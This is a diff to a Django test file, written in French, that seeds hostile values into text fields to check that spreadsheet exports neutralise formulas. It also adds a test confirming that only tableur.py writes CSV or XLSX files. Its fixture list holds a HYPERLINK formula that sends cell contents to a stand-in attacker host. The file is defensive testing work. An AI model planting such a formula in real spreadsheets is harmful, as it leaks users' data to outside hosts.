@@ -26,6 +26,7 @@ from remunerations.models import LigneRemuneration
 from reporting.models import BilanAnnuel
 from tests.isolation import connecte
 from tests.prestataires.conftest import a
+from tests.test_architecture import RACINE, modules_du_projet
 
 HOSTILES = (
     '=HYPERLINK("http://pirate.example/?x="&A1,"clic")',
@@ -45,7 +46,7 @@ CALCULES = {"cle_doublon"}
 
 def textes_libres(modele):
     return [
-        champ.name
+        champ
         for champ in modele._meta.concrete_fields
         if isinstance(champ, (models.CharField, models.TextField))
         and not (champ.choices or champ.unique or champ.primary_key)
@@ -59,7 +60,9 @@ def semer_l_hostile(modeles):
     for modele in modeles:
         champs = textes_libres(modele)
         for pk in modele.objects.values_list("pk", flat=True):
-            modele.objects.filter(pk=pk).update(**{champ: next(hostiles) for champ in champs})
+            modele.objects.filter(pk=pk).update(  # as long as the column holds
+                **{champ.name: next(hostiles)[: champ.max_length] for champ in champs}
+            )
 
 
 def dangereux(valeur) -> bool:
@@ -193,3 +196,16 @@ def test_un_nombre_un_telephone_et_une_date_restent_tels_quels():
     assert tableur.sans_formule("2026-11-24") == "2026-11-24"
     assert tableur.sans_formule(-3) == -3
     assert tableur.sans_formule("=1+1") == "'=1+1"
+
+
+def test_un_seul_module_ecrit_les_csv_et_les_xlsx():
+    """Every spreadsheet goes through documents/tableur.py: no other module of the application
+    asks tablib for a CSV or an XLSX (a new file cannot bypass the neutralisation)."""
+    ecrit = re.compile(r"""\.export\(\s*["'](csv|xlsx)|Databook\(|export_data\(""")
+    hors_tableur = [
+        str(chemin)
+        for chemin in modules_du_projet()
+        if not {"tests", "scripts"} & set(chemin.relative_to(RACINE).parts)
+        and ecrit.search(chemin.read_text())
+    ]
+    assert [chemin.rpartition("/")[2] for chemin in hors_tableur] == ["tableur.py"], hors_tableur
